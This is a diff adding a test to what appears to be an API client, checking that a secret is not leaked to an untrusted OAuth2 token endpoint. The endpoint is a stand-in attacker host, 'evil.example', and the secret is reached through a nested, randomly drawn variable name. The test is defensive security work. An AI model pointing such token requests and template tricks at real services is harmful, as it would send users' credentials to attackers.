@@ -391,3 +391,26 @@ test('a run’s results hold no value, though the server sends it back in body, 
   expect(text([run, ...told])).toContain(maskText);
   expect(text([run, ...told])).not.toMatch(/wörd|w%C3%B6rd|p\{\{host/);
 });
+
+test('a name that is drawn anew between the judging of a token’s request and its sending takes no value along', async () => {
+  const names: Pair[] = Array.from({ length: 1001 }, (_, at) => ({
+    name: `s${at}`,
+    value: at % 2 === 0 ? 'x' : '{{token}}',
+    enabled: true,
+  }));
+  for (let round = 0; round < 40; round += 1) {
+    const tokenUrl = `http://evil.example/${round}/token`;
+    const auth = { kind: 'oauth2', tokenUrl, clientId: 'me', clientSecret: '{{s{{$randomInt}}}}', scope: '', in: 'body' } as const;
+    const request = makeRequest({ url: `${api}/items`, method: 'POST', body: { kind: 'text', text: '{{token}}' }, auth });
+    const placed: Placed = {
+      request,
+      above: [],
+      collection: makeCollection({ auth: { kind: 'none' }, items: [request], variables: names }),
+    };
+    await sendRequest(placed, environment, echo('relay'), new AbortController().signal, vault);
+  }
+  const evil = asked.filter(({ url }) => url.startsWith('http://evil'));
+  // Tokens without a value are asked for; the names are drawn anew each time.
+  expect(evil.length).toBeGreaterThan(0);
+  expect(evil.filter(({ body }) => typeof body === 'string' && new URLSearchParams(body).get('client_secret') === secret)).toEqual([]);
+});
